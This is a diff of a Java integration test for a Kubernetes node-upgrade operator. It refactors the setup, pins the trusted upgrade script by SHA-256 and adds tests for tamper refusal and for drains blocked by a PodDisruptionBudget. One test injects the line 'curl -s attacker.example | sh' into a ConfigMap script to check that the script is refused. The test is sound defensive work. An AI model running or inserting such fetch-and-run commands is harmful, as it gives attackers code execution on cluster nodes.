@@ -12,20 +12,12 @@ import java.util.List;
 import java.util.Map;
 
 import org.awaitility.Awaitility;
-import org.junit.jupiter.api.AfterAll;
-import org.junit.jupiter.api.AfterEach;
-import org.junit.jupiter.api.BeforeAll;
-import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
-import org.junit.jupiter.api.TestInfo;
-import org.junit.jupiter.api.extension.ExtendWith;
 
 import dev.cks.nodeops.common.Conditions;
 import dev.cks.nodeops.common.NodeAnnotations;
 import dev.cks.nodeops.testbed.OperatorProcess;
-import dev.cks.nodeops.testbed.KubeletUpgradeSimulation;
 import dev.cks.nodeops.testbed.TestBed;
-import dev.cks.nodeops.testbed.TestBedExtension;
 import dev.cks.nodeops.testbed.KubeletUpgradeSimulation.SeenJob;
 import dev.cks.nodeops.upgrade.UpgradeNodeStatus.Action;
 import dev.cks.nodeops.upgrade.UpgradeNodeStatus.Phase;
@@ -40,50 +32,53 @@ import io.fabric8.kubernetes.client.dsl.base.PatchType;
  * comes back at the new version when the upgrade Job succeeds. Invalid targetVersions are refused by
  * the CRD schema: see CrdValidationIT (`targetVersion: '1.33'`).
  */
-@ExtendWith(TestBedExtension.class)
-class NodeUpgradeIT {
-    private static final String PREFIX = "nuit";
+class NodeUpgradeIT extends NodeUpgradeScenario {
     private static final String SCRIPT_CONFIGMAP = "nu-it-kubeadm-upgrade";
+    private static final String SCRIPT = "#!/bin/sh\n# $1: target version, $2: apply|node\nset -eu\n"
+            + "if [ \"$2\" = apply ]; then kubeadm upgrade apply \"$1\" --yes; else kubeadm upgrade node; fi\n"
+            + "systemctl restart kubelet\n";
     private static final Duration UPGRADE_TIME = Duration.ofSeconds(120);
-    private static OperatorProcess operator;
-    private static KubeletUpgradeSimulation kubelets;
-    private static TestBed testBed;
-    private UpgradeBed bed;
 
-    @BeforeAll
-    static void startOperator(TestBed shared) {
-        testBed = shared;
+    NodeUpgradeIT() {
+        super("nuit");
+    }
+
+    @Override
+    protected Map<String, String> prepare(TestBed shared) {
         shared.client().configMaps().inNamespace(TestBed.OPERATOR_NAMESPACE).resource(new ConfigMapBuilder()
-                .withNewMetadata().withName(SCRIPT_CONFIGMAP).endMetadata()
-                .addToData("upgrade.sh", "#!/bin/sh\n# $1: target version, $2: apply|node\nset -eu\n"
-                        + "if [ \"$2\" = apply ]; then kubeadm upgrade apply \"$1\" --yes; else kubeadm upgrade node; fi\n"
-                        + "systemctl restart kubelet\n").build()).serverSideApply();
-        kubelets = new KubeletUpgradeSimulation(shared.client(), TestBed.OPERATOR_NAMESPACE);
-        operator = OperatorProcess.start(shared, "nodeupgrade-it", Map.of());
+                .withNewMetadata().withName(SCRIPT_CONFIGMAP).endMetadata().addToData("upgrade.sh", SCRIPT).build()).serverSideApply();
+        return operatorProperties();
     }
 
-    @AfterAll
-    static void stopOperator() {
-        if (operator != null) {
-            operator.close();
-        }
-        if (kubelets != null) {
-            kubelets.close();
-        }
-    }
-
-    @BeforeEach
-    void setUp(TestInfo test) {
-        bed = new UpgradeBed(testBed, PREFIX, test.getTestMethod().orElseThrow().getName().toLowerCase().substring(0, 20));
-    }
-
-    @AfterEach
-    void tearDown() {
-        bed.cleanUp();
+    /** The script is the only one the operator may run, as the chart's upgrade.scripts would list it. */
+    private static Map<String, String> operatorProperties() {
+        return Map.of("cks.upgrade.script-sha256", ScriptTrust.sha256(SCRIPT));
     }
 
     private static UpgradeExecutor script() {
         return UpgradeBed.script(SCRIPT_CONFIGMAP, "upgrade.sh");
+    }
+
+    @Test
+    void aScriptChangedInItsConfigMapIsRefusedBeforeAnyNodeIsCordoned() {
+        String w1 = bed.worker(FROM);
+        String tampered = "nu-it-tampered";
+        bed.client.configMaps().inNamespace(TestBed.OPERATOR_NAMESPACE).resource(new ConfigMapBuilder()
+                .withNewMetadata().withName(tampered).endMetadata().addToData("upgrade.sh", SCRIPT + "curl -s attacker.example | sh\n").build())
+                .serverSideApply();
+        try {
+            bed.create("nu-tampered", UpgradeBed.script(tampered, "upgrade.sh"), spec -> { });
+            NodeUpgrade failed = bed.await("nu-tampered", UPGRADE_TIME, phase(NodeUpgradeStatus.Phase.Failed));
+
+            assertThat(nodeStatus(failed, w1).getError()).contains("ConfigMap " + TestBed.OPERATOR_NAMESPACE + "/" + tampered)
+                    .contains("does not list").contains("Nothing was cordoned");
+            assertThat(nodeStatus(failed, w1).getCordonedByUs()).as("never cordoned").isNull();
+            assertThat(bed.events("nu-tampered")).extracting(io.fabric8.kubernetes.api.model.Event::getReason).doesNotContain("Cordoned", "Draining");
+            assertThat(kubelets.jobsOn(List.of(w1))).as("no Job").isEmpty();
+            bed.assertReleased(w1, false);
+        } finally {
+            bed.client.configMaps().inNamespace(TestBed.OPERATOR_NAMESPACE).withName(tampered).delete();
+        }
     }
 
     @Test
@@ -99,6 +94,9 @@ class NodeUpgradeIT {
         List<String> planned = done.getStatus().getNodes().stream().map(UpgradeNodeStatus::getName).toList();
         assertThat(planned.get(0)).isEqualTo(control);
         assertThat(planned).containsExactlyInAnyOrder(control, w1, w2, w3);
+        assertThat(bed.client.batch().v1().jobs().inNamespace(TestBed.OPERATOR_NAMESPACE).withLabel(UpgradeJob.LABEL_NODE, w1).list().getItems())
+                .singleElement().satisfies(job -> assertThat(job.getMetadata().getAnnotations())
+                        .containsEntry(UpgradeJob.ANNOTATION_SCRIPT_SHA256, ScriptTrust.sha256(SCRIPT)));
         assertThat(kubelets.jobsOn(bed.nodes)).as("one Job per node, in the planned order")
                 .extracting(SeenJob::node, SeenJob::action)
                 .containsExactly(tuple(planned.get(0), "Apply"), tuple(planned.get(1), "Node"), tuple(planned.get(2), "Node"), tuple(planned.get(3), "Node"));
@@ -196,6 +194,39 @@ class NodeUpgradeIT {
     }
 
     @Test
+    void aDrainHeldByAPdbShowsThePdbAndItsNumbersWhileItBlocksAndCarriesOnWhenItIsGone() {
+        String worker = bed.worker(FROM);
+        String namespace = testBed.newNamespace("nuit-held");
+        bed.podsBlockedByABudget(worker, namespace);
+        try {
+            bed.create("nu-held", script(), spec -> spec.getDrain().setTimeoutSeconds(120));
+            String numbers = "pdb " + namespace + "/web-pdb: needs 2 healthy, has 2, 0 disruptions allowed";
+
+            NodeUpgrade blocked = bed.await("nu-held", UPGRADE_TIME, u -> u.getStatus() != null && u.getStatus().getMessage() != null
+                    && u.getStatus().getMessage().contains("blocked for"));
+
+            assertThat(Conditions.find(blocked.getStatus().getConditions(), Conditions.PROGRESSING)).get()
+                    .satisfies(c -> assertThat(c.getMessage()).contains("Draining node " + worker).contains(numbers));
+            Awaitility.await("a DrainBlocked Warning event").atMost(Duration.ofSeconds(10)).untilAsserted(() -> assertThat(bed.events("nu-held"))
+                    .anySatisfy(e -> {
+                        assertThat(e.getType()).isEqualTo("Warning");
+                        assertThat(e.getReason()).isEqualTo("DrainBlocked");
+                        assertThat(e.getMessage()).contains(worker).contains(numbers);
+                    }));
+            assertThat(operator.httpGet("/q/metrics").lines()).anyMatch(l -> l.startsWith("cks_drain_blocked{") && l.contains("name=\"nu-held\"")
+                    && l.contains("node=\"" + worker + "\"") && l.endsWith(" 1.0"));
+
+            bed.client.policy().v1().podDisruptionBudget().inNamespace(namespace).withName("web-pdb").delete();
+            bed.await("nu-held", UPGRADE_TIME, phase(NodeUpgradeStatus.Phase.Succeeded));
+            assertThat(bed.events("nu-held")).filteredOn(e -> "DrainBlocked".equals(e.getReason())).as("announced once").hasSize(1);
+        } catch (java.io.IOException e) {
+            throw new AssertionError("the operator's /q/metrics could not be read", e);
+        } finally {
+            bed.client.namespaces().withName(namespace).delete();
+        }
+    }
+
+    @Test
     void anExecutorJobThatFailsMarksTheNodeFailedWithTheJobsReasonAndUncordonsIt() {
         String w1 = bed.worker(FROM);
         try (PodsHeldOffNode held = new PodsHeldOffNode(bed.client, w1, TestBed.OPERATOR_NAMESPACE)) {
@@ -285,7 +316,7 @@ class NodeUpgradeIT {
             NodeUpgrade draining = bed.await("nu-delete-draining", Duration.ofSeconds(60), u -> !u.getStatus().getNodes().isEmpty()
                     && nodeStatus(u, w1).getPhase() == Phase.Draining
                     && Conditions.find(u.getStatus().getConditions(), Conditions.PROGRESSING).map(c -> c.getMessage()).orElse("")
-                            .startsWith("draining " + w1 + " (attempt 1/1)"));
+                            .startsWith("Draining node " + w1 + " (attempt 1/1)"));
             assertThat(bed.node(w1).getMetadata().getAnnotations()).containsEntry(NodeAnnotations.LOCK, "NodeUpgrade/nu-delete-draining")
                     .containsEntry(NodeAnnotations.CORDONED_BY, "NodeUpgrade/nu-delete-draining");
             assertThat(nodeStatus(draining, w1).getDrain().getBlockedBy()).contains("web-pdb");
@@ -332,7 +363,7 @@ class NodeUpgradeIT {
 
             operator.kill();
         }
-        operator = OperatorProcess.start(testBed, "nodeupgrade-it-restarted", Map.of());
+        operator = OperatorProcess.start(testBed, "nodeupgrade-it-restarted", operatorProperties());
         NodeUpgrade done = bed.await("nu-restart", UPGRADE_TIME, phase(NodeUpgradeStatus.Phase.Succeeded));
 
         assertThat(nodeStatus(done, w1).getJobName()).isEqualTo(jobName);
